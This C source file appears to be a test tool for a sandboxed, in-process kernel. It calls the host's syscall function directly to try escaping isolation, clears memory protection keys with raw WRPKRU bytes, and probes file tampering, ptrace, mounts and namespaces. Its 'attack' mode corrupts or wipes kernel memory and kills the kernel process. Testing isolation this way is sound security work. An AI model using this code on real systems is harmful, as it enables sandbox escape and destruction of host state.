/*
 * Takes over the machine's kernel in in-process mode, from a program in a node, and makes system calls of
 * the computer: the kernel's image is in this program's process, and calls from there are not dispatched.
 *
 *	takeover ADDRESS TARGET PID		tries to reach what is outside
 *	takeover ADDRESS garbage DESCRIPTOR	writes to a descriptor of the kernel
 *	takeover ADDRESS close DESCRIPTOR
 *	takeover ADDRESS call FUNCTION		jumps into the image
 *	takeover ADDRESS wipe FROM		overwrites the kernel's memory
 *	takeover ADDRESS end			ends the process that runs the kernel
 *
 * ADDRESS is that of the C library's syscall(2) in the image. Prints each call that succeeds.
 */
#include <cpuid.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define TRY(name, ...) \
	do { \
		if (host(__VA_ARGS__) >= 0) \
			puts(name); \
	} while (0)

#define DESCRIPTORS 64

static long (*host)(long, ...);

/* Through the descriptors that the kernel has, one of which is the target's */
static void use_descriptors(long pid)
{
	char path[40];
	long fd, target = -1;

	for (fd = 0; fd < DESCRIPTORS; fd++) {
		struct {
			long words[18];
		} found = {};
		char bytes[9] = {};

		if (host(5L, fd, (long)&found) != 0 || (found.words[3] & 0170000) != 0100000)	/* fstat */
			continue;
		if (host(17L, fd, (long)bytes, 9L, 0L) == 9 && memcmp(bytes, "unchanged", 9) == 0)
			target = fd;
	}
	if (target < 0) {
		puts("no descriptor of the target");
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%ld", target);
	TRY("writing to its descriptor", 18L, target, (long)"CHANGED", 7L, 0L);
	TRY("emptying its descriptor", 77L, target, 0L);
	TRY("space for its descriptor", 285L, target, 0L, 0L, 100000L);
	TRY("opening its descriptor again", 2L, (long)path, 2L, 0L);
	if ((unsigned long)host(9L, 0L, 4096L, 3L, 1L, target, 0L) < -4096UL)
		puts("mapping its descriptor");
	TRY("a lock", 73L, target, 2L);
	TRY("a lease", 72L, target, 1024L, 0L);
	TRY("a signal to another process", 72L, target, 8L, pid);
	TRY("mode of its descriptor", 91L, target, 0777L);
	TRY("times of its descriptor", 280L, target, 0L, 0L, 0L);
}

/* The machine does not survive these. */
static void attack(const char *what, const char *argument)
{
	static char garbage[4096];
	long number = argument ? strtoul(argument, NULL, 0) : 0, i;

	memset(garbage, 0xa5, sizeof(garbage));
	if (strcmp(what, "garbage") == 0)
		for (i = 0; i < 20; i++)
			host(44L, number, (long)garbage, 4096L, 0x4040L, 0L, 0L);	/* sendto, DONTWAIT */
	else if (strcmp(what, "close") == 0)
		host(3L, number);
	else if (strcmp(what, "call") == 0)
		((void (*)(const char *))number)("called by a program");
	else if (strcmp(what, "wipe") == 0)
		memset((char *)number, 0xa5, 1 << 20);
	else if (strcmp(what, "end") == 0)
		host(231L, 0L);
	sleep(1);
}

/*
 * Where the processor has protection keys, the kernel has closed its memory. The system call lets it
 * keep the program's new keys, for another process may continue here.
 */
static void open_memory(void)
{
	unsigned a, b, c, d;

	if (__get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & 1 << 4))
		__asm__ volatile(".byte 0x0f, 0x01, 0xef" : : "a"(0), "c"(0), "d"(0) : "memory");
	getppid();
}

int main(int argc, char **argv)
{
	long target = (long)argv[2], pid = argc > 3 ? atol(argv[3]) : 0;

	open_memory();
	host = (void *)strtoul(argv[1], NULL, 16);
	if (argv[2][0] != '/') {
		attack(argv[2], argv[3]);
		return 0;
	}
	open(argv[2], O_RDONLY);
	if (host(39L) != getpid())	/* getpid */
		puts("taken over");
	TRY("reading", 2L, target, 0L, 0L);
	TRY("writing", 2L, target, 1L, 0L);
	TRY("emptying", 2L, target, 01000L, 0L);
	TRY("creating", 2L, (long)"/var/tmp/wanlab-takeover", 0101L, 0600L);
	TRY("memory without a name", 2L, (long)"/dev/shm", 020200002L, 0600L);
	TRY("mode", 90L, target, 0777L);
	TRY("owner", 92L, target, 1L, 1L);
	TRY("times", 132L, target, 0L);
	TRY("size", 76L, target, 0L);
	TRY("removing", 87L, target);
	TRY("renaming", 82L, target, (long)"/var/tmp/wanlab-takeover");
	TRY("a socket", 41L, 1L, 1L, 0L);
	TRY("terminal", 2L, (long)"/dev/tty", 0L, 0L);
	TRY("tracing", 101L, 16L, pid, 0L, 0L);
	TRY("limits", 302L, pid, 4L, 0L, 0L);
	TRY("its memory", 310L, pid, 0L, 0L, 0L, 0L, 0L);
	TRY("a session", 112L);
	TRY("io_uring", 425L, 8L, target);
	TRY("mounting", 165L, (long)"x", (long)"/tmp", (long)"tmpfs", 0L, 0L);
	TRY("a user namespace", 272L, 0x10000000L);
	TRY("a process of another group", 109L, 0L, 1L);
	use_descriptors(pid);
	fflush(stdout);
	return 0;
}
